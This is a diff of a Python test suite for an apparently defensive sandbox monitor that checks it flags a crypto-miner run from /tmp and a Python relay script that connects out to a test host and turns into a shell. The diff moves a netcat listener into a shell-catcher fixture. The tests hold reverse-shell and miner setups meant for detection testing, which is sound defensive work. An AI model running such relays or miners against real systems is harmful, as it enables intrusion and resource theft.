@@ -12,8 +12,6 @@ import base64
 import json
 import secrets
 import shutil
-import subprocess
-import time
 import zipfile
 from collections.abc import Iterator
 from pathlib import Path
@@ -65,8 +63,9 @@ def test_shebang_script_in_tmp_mines_to_the_pool(
     script = staging / "sync"
     shutil.copy(MINER_SCRIPT, script)
     script.chmod(0o755)
-    (staging / "settings.json").write_text(json.dumps(
-        {"pools": [{"url": mining_pool.url, "user": "WALLET-SHEBANG", "pass": "x"}]}))  # fmt: skip
+    (staging / "settings.json").write_text(
+        json.dumps({"pools": [{"url": mining_pool.url, "user": "WALLET-SHEBANG", "pass": "x"}]})
+    )
     run = sandtrace_run(testnet, f"{script} -c {staging / 'settings.json'}", work)
     assert "WALLET-SHEBANG" in mining_pool.wallets()
     exec_alerts = expect(run, "#! script in /tmp", "payloads")
@@ -128,25 +127,11 @@ os.execv("/bin/sh", ["sh"])
 """
 
 
-def _operator(net: NetNS, port: int) -> subprocess.Popen[bytes]:
-    """A listener on the outside host that types a command, then exit, into the shell."""
-    typed = "sleep 1; exit"
-    proc = subprocess.Popen(
-        net.in_outside("sh", "-c", f"echo '{typed}' | nc -l -q 3 {net.outside_addr} {port}"),
-        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
-    )  # fmt: skip
-    deadline = time.monotonic() + 5
-    while (net.outside_addr, port) not in net.listening_outside():
-        assert time.monotonic() < deadline, "listener did not start"
-        time.sleep(0.02)
-    return proc
-
-
 def test_sh_on_a_socket_from_a_python_relay_script(testnet: NetNS, work: Path) -> None:
     # No one-liner, no /dev/tcp, no nc: a script file connects, puts the socket on its
     # standard streams and becomes sh. Only what the streams are gives it away.
     (work / "relay.py").write_text(RELAY)
-    catcher = _operator(testnet, 4450)
+    catcher = testnet.shell_catcher(4450, "sleep 1; exit", hangup_s=3)
     try:
         run = sandtrace_run(testnet, f"{PYTHON} relay.py {testnet.outside_addr} 4450; true", work)
     finally:
@@ -195,14 +180,18 @@ def test_benign_agent_workload_raises_nothing_at_medium_or_above(
     (work / "tests" / "test_calc.py").write_text(
         "from calc import add\n\ndef test_add():\n    assert add(1, 2) == 3\n"
     )
-    script = " && ".join([
-        f"{VENV_PYTHON} -m pip install -q --no-index --no-deps --target site {wheel}",
-        "./scripts/build.sh", "./hello", "bash ./run_tests.sh",
-        "git init -q repo", "git -C repo -c user.email=a@example.org -c user.name=a "
-        "commit -q --allow-empty -m one",
-        f"{PYTHON} -c 'import base64; print(base64.b64encode(b\"x\"))'",
-        "ssh -V 2>/dev/null",
-    ])  # fmt: skip
+    script = " && ".join(
+        [
+            f"{VENV_PYTHON} -m pip install -q --no-index --no-deps --target site {wheel}",
+            "./scripts/build.sh",
+            "./hello",
+            "bash ./run_tests.sh",
+            "git init -q repo",
+            "git -C repo -c user.email=a@example.org -c user.name=a commit -q --allow-empty -m one",
+            f"{PYTHON} -c 'import base64; print(base64.b64encode(b\"x\"))'",
+            "ssh -V 2>/dev/null",
+        ]
+    )
     run = sandtrace_run(testnet, script, work, "--egress-allow", "0.0.0.0/0")
     assert run.returncode == 0, run.stderr
     assert (work / "site" / "calc.py").exists(), "pip did not install the wheel"
